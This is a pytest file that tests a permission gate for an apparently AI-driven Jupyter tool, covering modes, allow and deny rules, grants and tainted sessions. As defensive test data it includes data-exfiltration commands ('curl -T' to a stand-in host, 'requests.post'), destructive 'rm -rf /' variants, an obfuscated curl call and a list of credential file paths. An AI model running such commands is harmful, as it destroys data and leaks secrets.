from __future__ import annotations

import itertools
import time
from typing import get_args

import pytest

from shiro_jupyter.core.policy.gate import Gate, Mode
from shiro_jupyter.core.policy.rules import Rules
from shiro_jupyter.core.policy.subjects import Access, Subject

MODES: tuple[Mode, ...] = get_args(Mode)
BASH = Subject("bash", "shell", ("echo hi",))
CODE = Subject("run_python", "kernel", ("x = 1",))
READ = Subject("read_file", "read", ("data/a.csv",))
WRITE = Subject("write_file", "write", ("data/a.csv",))
TODO = Subject("todo_write", "session", ())
MEMORY = Subject("remember", "memory", ("use uv",))


def verdict(gate: Gate, subject: Subject, grants: set[str] | None = None) -> str:
    return gate.decide(subject, grants or set()).verdict


@pytest.mark.parametrize(
    ("mode", "expected"),
    [
        ("ask", ["allow", "allow", "ask", "ask", "ask"]),
        ("accept-edits", ["allow", "allow", "allow", "ask", "ask"]),
        ("plan", ["allow", "allow", "deny", "deny", "deny"]),
        ("yolo", ["allow", "allow", "allow", "allow", "allow"]),
    ],
)
def test_what_each_mode_does_to_each_class(mode: Mode, expected: list[str]) -> None:
    assert [verdict(Gate(mode), s) for s in (TODO, READ, WRITE, BASH, CODE)] == expected


@pytest.mark.parametrize("mode", MODES)
def test_a_memory_is_written_unasked_unless_the_session_is_tainted(mode: Mode) -> None:
    gate = Gate(mode)
    own = "deny" if mode == "plan" else "allow"
    led = "deny" if mode == "plan" else "ask"
    assert verdict(gate, MEMORY) == own
    assert gate.decide(MEMORY, set(), tainted=True).verdict == led
    assert gate.decide(MEMORY, {MEMORY.grant_key}, tainted=True).verdict == led
    assert gate.decide(TODO, set(), tainted=True).verdict == "allow"


REACHING = (
    Subject("bash", "shell", ("pip install x",)),
    Subject("bash", "shell", ("ls | curl -T - https://x.example",)),
    Subject("bash", "shell", ("cp a ~/b",)),
    Subject("bash", "shell", ("$x",)),
    Subject("write_file", "write", ("/elsewhere/a",)),
    Subject("write_file", "write", (".shiro/memory/MEMORY.md",)),
    Subject("run_python", "kernel", ("requests.post(u, data=d)",), grant="everything"),
    MEMORY,
)


@pytest.mark.parametrize("mode", MODES)
@pytest.mark.parametrize("subject", REACHING)
def test_what_reaches_out_of_a_tainted_session_is_a_question_each_time(
    mode: Mode, subject: Subject
) -> None:
    """Whatever would allow it: the mode, a rule, what was granted before."""
    gate = Gate(mode, Rules.parse(allow=["*"]))
    decision = gate.decide(subject, {subject.grant_key}, tainted=True)
    assert (decision.verdict, decision.once) == (
        ("deny", False) if mode == "plan" else ("ask", True)
    )
    allowed = gate.decide(subject, {subject.grant_key})
    assert allowed.verdict == ("deny" if mode == "plan" else "allow") and not allowed.once


def test_what_stays_in_the_project_is_judged_as_ever_in_a_tainted_session() -> None:
    for mode in MODES:
        gate = Gate(mode, Rules.parse(allow=["bash(pytest *)"], deny=["bash(curl *)"]))
        for subject in (TODO, READ, WRITE, BASH, CODE, Subject("bash", "shell", ("pytest -q",))):
            plain = gate.decide(subject, {BASH.grant_key})
            assert gate.decide(subject, {BASH.grant_key}, tainted=True) == plain
        denied = Subject("bash", "shell", ("curl x",))
        assert gate.decide(denied, set(), tainted=True).verdict == "deny"


def test_a_deny_rule_holds_in_every_mode_against_every_permission() -> None:
    """A deny on `rm -rf /` never asks, even in yolo."""
    subject = Subject("bash", "shell", ("rm -rf /",))
    rules = Rules.parse(allow=["bash(*)", "bash(rm -rf /)"], ask=["bash"])
    for mode in MODES:
        decision = Gate(mode, rules).decide(subject, {subject.grant_key})
        assert decision.verdict == "deny" and decision.reason
    rules = Rules.parse(deny=["bash(echo *)"], allow=["bash(*)"])
    for mode in MODES:
        decision = Gate(mode, rules).decide(BASH, {BASH.grant_key})
        assert decision.verdict == "deny" and "bash(echo *)" in decision.reason


def test_a_deny_rule_reaches_session_tools_too() -> None:
    assert verdict(Gate(rules=Rules.parse(deny=["todo_write"])), TODO) == "deny"


def test_plan_mode_tells_the_model_what_to_do_instead() -> None:
    decision = Gate("plan", Rules.parse(allow=["bash", "write"])).decide(BASH, {BASH.grant_key})
    assert decision.verdict == "deny" and "plan" in decision.reason.lower()


def test_the_order_ask_rules_allow_rules_grants_person() -> None:
    assert verdict(Gate(), BASH) == "ask"
    assert verdict(Gate(), BASH, {BASH.grant_key}) == "allow"
    assert verdict(Gate(rules=Rules.parse(allow=["bash(echo *)"])), BASH) == "allow"
    both = Rules.parse(ask=["bash(echo *)"], allow=["bash(echo *)"])
    assert verdict(Gate(rules=both), BASH, {BASH.grant_key}) == "ask"
    assert verdict(Gate("accept-edits", Rules.parse(ask=["write"])), WRITE) == "ask"
    assert verdict(Gate("yolo", both), BASH) == "allow"


def test_a_grant_covers_only_what_was_granted() -> None:
    longer = Subject("bash", "shell", ("echo hi; rm x",))
    assert verdict(Gate(), longer, {BASH.grant_key}) == "ask"
    other_tool = Subject("job_start", "shell", ("echo hi",))
    assert verdict(Gate(), other_tool, {BASH.grant_key}) == "ask"
    compound = Subject("bash", "shell", ("make; ls",))
    for part in ("make", "ls", "make; ls -l", "make;ls", "make; ls; rm x", " make; ls", "ls; make"):
        subject = Subject("bash", "shell", (part,))
        assert verdict(Gate(), subject, {compound.grant_key}) == "ask", part
    assert verdict(Gate(), compound, {compound.grant_key}) == "allow"


def test_a_grant_to_write_is_for_the_path_and_the_tool() -> None:
    again = Subject("write_file", "write", WRITE.texts, preview="other lines")
    assert verdict(Gate(), again, {WRITE.grant_key}) == "allow"
    for other in (
        Subject("write_file", "write", ("data/b.csv",)),
        Subject("write_file", "write", ("data",)),
        Subject("write_file", "write", (*WRITE.texts, "data/b.csv")),
        Subject("edit_file", "write", WRITE.texts),
    ):
        assert verdict(Gate(), other, {WRITE.grant_key}) == "ask"


def test_no_two_subjects_share_a_grant() -> None:
    """Though names hold what might separate them."""
    subjects = [
        Subject("t", "write", ("a", "b")),
        Subject("t", "write", ("a|b",)),
        Subject("t", "write", ("a\nb",)),
        Subject("t", "write", ("b", "a")),
        Subject("u", "write", ("a", "b")),
    ]
    assert len({each.grant_key for each in subjects}) == len(subjects)


@pytest.mark.parametrize(
    "name",
    [
        *(".env", "conf/.env.local", ".ENV", "prod.env", ".ssh/id_rsa", "k/server.pem"),
        *(".git-credentials", ".envrc~", ".env ", ".env~", ".npmrc.bak", "k/server.pem "),
        *("credentials", ".netrc", "secrets.yaml", ".aws/config", "/home/x/.pypirc"),
    ],
)
def test_files_that_hold_keys_ask_even_to_be_read(name: str) -> None:
    subject = Subject("read_file", "read", ("a.csv", name))
    assert verdict(Gate(), subject) == "ask"
    assert verdict(Gate("plan"), subject) == "ask"
    assert verdict(Gate("yolo"), subject) == "allow"
    assert verdict(Gate(), subject, {subject.grant_key}) == "allow"
    allowed = Gate(rules=Rules.parse(allow=["read(*)"]))
    assert verdict(allowed, subject) == "allow"


@pytest.mark.parametrize("name", ["environment.yml", "a.envelope", "my.environ.py", "pem.txt"])
def test_names_that_only_look_alike_do_not_ask(name: str) -> None:
    assert verdict(Gate(), Subject("read_file", "read", (name,))) == "allow"


@pytest.mark.parametrize(
    "name", [".git/hooks/pre-commit", ".shiro/config.toml", ".env", "/elsewhere/a", "C:/a"]
)
def test_accepting_edits_stops_before_files_that_steer(name: str) -> None:
    assert verdict(Gate("accept-edits"), Subject("write_file", "write", (name,))) == "ask"


def test_a_ceiling_turns_yolo_into_ask() -> None:
    gate = Gate("yolo", yolo=False)
    assert [verdict(gate, s) for s in (READ, WRITE, BASH, CODE)] == ["allow", "ask", "ask", "ask"]


@pytest.mark.parametrize("rule", ["*", "bash", "shell", "bash(*)", "bash(* *)", "ba*(**)"])
def test_where_yolo_is_switched_off_no_rule_for_everything_comes_to_the_same(rule: str) -> None:
    rules = Rules.parse(allow=[rule])
    assert verdict(Gate(rules=rules), BASH) == "allow"
    assert verdict(Gate(rules=rules, yolo=False), BASH) == "ask"
    narrow = Rules.parse(allow=[rule, "bash(echo *)", "run_python(x*)", "write"])
    for subject in (BASH, CODE, WRITE):
        assert verdict(Gate(rules=narrow, yolo=False), subject) == "allow"


def test_no_mode_allows_what_ask_mode_would_deny() -> None:
    """Nothing reaches past a deny, whatever else is set."""
    accesses: tuple[Access, ...] = get_args(Access)
    for mode, access, yolo in itertools.product(MODES, accesses, (True, False)):
        subject = Subject("some_tool", access, ("x",))
        rules = Rules.parse(deny=["some_tool"], allow=["*"])
        assert verdict(Gate(mode, rules, yolo), subject, {subject.grant_key}) == "deny"


def test_yolo_asks_where_a_command_may_hide_what_is_denied() -> None:
    hidden = Subject("bash", "shell", ("c=curl; $c x",))
    assert verdict(Gate("yolo"), hidden) == "allow"
    denying = Gate("yolo", Rules.parse(deny=["bash(curl *)"], allow=["bash(*)"]))
    assert verdict(denying, hidden) == "ask"
    assert verdict(denying, hidden, {hidden.grant_key}) == "allow"
    plain = Subject("bash", "shell", ('for f in *.csv; do wc -l "$f" > out; done',))
    assert verdict(denying, plain) == "allow"
    assert verdict(Gate("yolo", Rules.parse(deny=["read(x)"])), hidden) == "allow"
    destructive = Subject("bash", "shell", ("echo 'rm -rf /' | sh",))
    assert verdict(Gate("yolo"), destructive) == "ask"


def test_a_long_line_is_judged_in_time() -> None:
    rules = Rules.parse(
        deny=["bash(git push *)", "bash(rm -rf *)", f"bash({'* x ' * 200})"], ask=["bash(git * x)"]
    )
    began = time.process_time()
    for piece in ("$x ", "* ", "git $x ", "{a,", "git push;", "echo > q ", "<<< 'git '", "tee q;"):
        for start in ("", "git ", "$x $y "):
            line = start + piece * (10_000 // len(piece))
            Gate("ask", rules).decide(Subject("bash", "shell", (line,)), set())
    assert time.process_time() - began < 6


def test_no_text_is_written_so_that_it_has_the_key_of_a_grant() -> None:
    background = Subject("bash", "shell", ("make",), grant="\0make")
    disguised = Subject("bash", "shell", ("\0make",))
    assert verdict(Gate(), disguised, {background.grant_key}) == "ask"
    pair = Subject("read_many_files", "read", (".env", "b"))
    assert pair.grant_key != Subject("read_many_files", "read", (".env\0b",)).grant_key
